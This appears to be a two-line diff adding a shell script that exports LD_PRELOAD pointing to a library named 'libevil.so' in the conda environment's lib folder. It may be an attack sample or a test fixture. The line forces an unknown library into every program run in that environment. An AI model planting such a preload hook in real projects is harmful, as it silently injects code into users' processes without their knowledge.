@@ -1,0 +1,2 @@
+#!/bin/sh
+export LD_PRELOAD="${CONDA_PREFIX}/lib/libevil.so"
